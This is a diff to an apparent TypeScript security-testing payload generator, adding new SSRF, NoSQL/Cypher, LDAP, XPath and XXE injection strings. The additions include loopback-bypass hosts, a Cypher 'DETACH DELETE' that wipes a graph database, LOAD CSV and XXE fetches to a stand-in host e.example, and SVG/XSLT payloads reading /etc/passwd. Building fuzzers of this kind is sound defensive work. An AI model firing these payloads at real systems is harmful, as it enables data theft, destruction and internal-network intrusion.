@@ -269,6 +269,9 @@ const ssrf: Make = (r) => {
     '0251.0376.0251.0376',
     'a.oastify.com',
     'localtest.me',
+    '100.64.0.1',
+    '[2002:7f00:1::]',
+    '127.0.0.1.e.example',
   ])
   if (r.chance(0.15))
     return r.pick([
@@ -355,6 +358,9 @@ const nosql: Make = (r) => {
     `${quote}, $or: [ {}, { ${quote}a${quote}:${quote}a`,
     `${quote} || this.${field}.length > 0 || ${quote}a${quote}==${quote}b`,
     `db.${field}.${r.pick(['find', 'insert', 'remove', 'drop'])}({})`,
+    `db['${field}'].find({})`,
+    `x${quote}}) ${r.pick(['RETURN 1 UNION MATCH (n) RETURN n //', 'MATCH (n) DETACH DELETE n //', 'CALL db.labels() YIELD label RETURN label //'])}`,
+    `${quote} WITH 1 as x LOAD CSV FROM ${quote}http://e.example/${quote} AS y RETURN y //`,
   ])
 }
 
@@ -375,6 +381,8 @@ const ldap: Make = (r) => {
     `!(${attribute(r)}=*)`,
     `*))%00`,
     `\\2a\\29\\28${attribute(r)}=\\2a`,
+    `${start} ) ( | ( ${attribute(r)} = *`,
+    `${start}\\29(${attribute(r)}=*`,
     `${attribute(r)}:${r.pick(['dn', '2.5.13.18', '1.2.840.113556.1.4.803'])}:=1`,
     r.pick(['*)(&', '*()|&', '(*)*)', '*)(|(&']),
   ])
@@ -398,6 +406,9 @@ const xpath: Make = (r) => {
     `${quote}) or contains(.,${quote}`,
     `${quote} or //${r.pick(['user', 'node'])}[name=1] or ${quote}a${quote}=${quote}b`,
     `count(/child::node())`,
+    `x${quote}] /.. /*`,
+    `${quote}]/parent::* /*`,
+    `for $x in //user return $x`,
     `/*[${1 + r.below(9)}]/*[2]/text()`,
     `substring(//user[${1 + r.below(9)}]/name,1,1)=1`,
     `${quote} and doc(${quote}http://e.example/x${quote}) and ${quote}`,
@@ -426,6 +437,8 @@ const xxe: Make = (r) => {
     `<xsl:stylesheet version="1.0"><xsl:template match="/"><xsl:value-of select=${quote}${r
       .pick(["document('/etc/passwd')", "system-property('xsl:vendor')", "php:function('id')"])
       .replaceAll("'", quote === "'" ? '&quot;' : "'")}${quote}/></xsl:template></xsl:stylesheet>`,
+    `<!DOCTYPE ${name} [<!ATTLIST ${name} href CDATA #FIXED ${quote}http://e.example/x${quote}>]><${name}/>`,
+    `<image xlink:href = ${quote}file:///etc/passwd${quote}/>`,
     `<!DOCTYPE z [${Array.from({ length: 6 }, (_, i) => `<!ENTITY l${i} "&l${i - 1};&l${i - 1};">`).join('')}]>`,
   ])
 }
